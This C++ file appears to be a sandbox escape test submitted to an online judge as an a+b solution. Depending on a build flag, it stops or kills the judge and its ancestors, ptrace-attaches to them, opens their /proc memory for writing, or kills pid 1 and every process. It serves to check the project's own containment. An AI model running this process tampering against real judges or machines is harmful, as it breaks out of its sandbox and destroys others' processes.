/**
 * Attack (issue 12): signal, stop or trace the judge and the run's keeper.
 * Problem: aplusb of judge/testroot
 * ATTACK_SIGNALS (default "stop"):
 *   stop     SIGSTOP to the targets (the judge would hang past the wall limit)
 *   kill     SIGKILL to the targets
 *   trace    ptrace(PTRACE_ATTACH) (then detach) and open /proc/<pid>/mem for writing
 *   killall  SIGSTOP and SIGKILL to pid 1, then kill(-1, SIGKILL)
 * Targets: the parent (getppid() > 0), each ancestor (up to 4 levels) whose comm is "judge",
 *   and, only inside its own pid namespace, pid 1 and every other visible process.
 * Prints: "BROKEN-ptrace-<pid>" / "BROKEN-mem-<pid>" when trace got through, else a + b.
 * Contained = the judge ends in time with AC (the signals reach nothing of the judge).
 * Safety: pid 1, "every visible process" and kill(-1) are used only when in_own_pid_namespace()
 *   (its pid is below 10 and it sees fewer than 16 processes): run as root in the machine's
 *   pid namespace, kill(-1, SIGKILL) would end every process of the machine. Outside the
 *   sandbox it signals only the judge's own processes.
 * Status: stop, kill and trace got through the judge before the sandbox (a35ce73), as root and
 *   as nobody (a hang, a killed judge, BROKEN-ptrace); killall is inert there (the guard), so
 *   it only means something under a sandbox. All four contained by the sandbox.
 */
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <set>
#include <string>

#ifndef ATTACK_SIGNALS
#define ATTACK_SIGNALS "stop"
#endif

using namespace std;

bool mode(const char* name) { return strcmp(ATTACK_SIGNALS, name) == 0; }

string read_file(const string& path) {
    string text;
    if (FILE* file = fopen(path.c_str(), "r")) {
        char buffer[4096];
        size_t got;
        while ((got = fread(buffer, 1, sizeof buffer, file)) > 0) text.append(buffer, got);
        fclose(file);
    }
    return text;
}

string comm_of(int pid) {
    string comm = read_file("/proc/" + to_string(pid) + "/comm");
    if (!comm.empty() && comm.back() == '\n') comm.pop_back();
    return comm;
}

int parent_of(int pid) {
    string stat = read_file("/proc/" + to_string(pid) + "/stat");
    size_t paren = stat.rfind(')');
    if (paren == string::npos) return 0;
    char state;
    int ppid = 0;
    return sscanf(stat.c_str() + paren + 1, " %c %d", &state, &ppid) == 2 ? ppid : 0;
}

set<int> visible_pids() {
    set<int> pids;
    if (DIR* proc = opendir("/proc")) {
        while (dirent* entry = readdir(proc))
            if (int pid = atoi(entry->d_name); pid > 0) pids.insert(pid);
        closedir(proc);
    }
    return pids;
}

bool in_own_pid_namespace() { return getpid() < 10 && visible_pids().size() < 16; }

set<int> targets() {
    set<int> found;
    int parent = getppid();
    bool boxed = in_own_pid_namespace();
    if (parent > 1 || (parent == 1 && boxed)) found.insert(parent);
    for (int pid = parent, level = 0; pid > 1 && level < 4; ++level) {
        pid = parent_of(pid);
        if (pid > 1 && comm_of(pid) == "judge") found.insert(pid);
    }
    if (boxed) {
        found = visible_pids();
        found.insert(1);
    }
    found.erase(getpid());
    return found;
}

int main() {
    long long a = 0, b = 0;
    if (scanf("%lld %lld", &a, &b) != 2) return 1;
    string broken;
    if (mode("stop") || mode("kill")) {
        for (int pid : targets()) kill(pid, mode("stop") ? SIGSTOP : SIGKILL);
    } else if (mode("trace")) {
        for (int pid : targets()) {
            string mem = "/proc/" + to_string(pid) + "/mem";
            int fd = open(mem.c_str(), O_RDWR | O_CLOEXEC);
            if (fd >= 0) {
                close(fd);
                if (broken.empty()) broken = "BROKEN-mem-" + to_string(pid);
            }
            if (ptrace(PTRACE_ATTACH, pid, nullptr, nullptr) == 0) {
                int status;
                waitpid(pid, &status, __WALL);
                ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
                broken = "BROKEN-ptrace-" + to_string(pid);
            }
        }
    } else if (mode("killall")) {
        if (in_own_pid_namespace()) {
            kill(1, SIGSTOP);
            kill(1, SIGKILL);
            kill(-1, SIGKILL);
        } else {
            fputs("signals: not in a pid namespace of its own: killall skipped\n", stderr);
        }
    }
    if (!broken.empty())
        puts(broken.c_str());
    else
        printf("%lld\n", a + b);
}
